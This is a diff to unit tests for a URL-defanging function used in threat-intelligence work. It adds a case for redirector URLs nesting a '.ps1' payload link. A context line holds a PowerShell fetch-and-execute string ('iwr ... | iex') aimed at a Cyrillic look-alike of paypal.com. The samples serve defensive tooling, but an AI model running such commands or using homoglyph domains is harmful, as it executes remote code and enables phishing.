@@ -72,6 +72,18 @@ def test_defang_brackets_the_host_of_a_url_but_not_its_path() -> None:
     assert defang("https://captcha.example/verify.html") == "hxxps://captcha[.]example/verify.html"
 
 
+def test_defang_shows_a_url_inside_another_urls_path_once() -> None:
+    # a redirector's query carries the real payload URL: both hosts bracketed, nothing repeated
+    assert (
+        defang("see https://a.test/go?u=http://b.test/x/y.ps1 now")
+        == "see hxxps://a[.]test/go?u=hxxp://b[.]test/x/y.ps1 now"
+    )
+    assert (
+        defang("https://a.test/https://b.test/x https://c.test/q")
+        == "hxxps://a[.]test/hxxps://b[.]test/x hxxps://c[.]test/q"
+    )
+
+
 def test_defang_shows_non_ascii_hosts_as_punycode() -> None:
     # Cyrillic а and р: a look-alike of paypal.com
     shown = defang("iwr https://\u0440\u0430y\u0440\u0430l.com/a | iex; irm \u0440\u0430y.com")
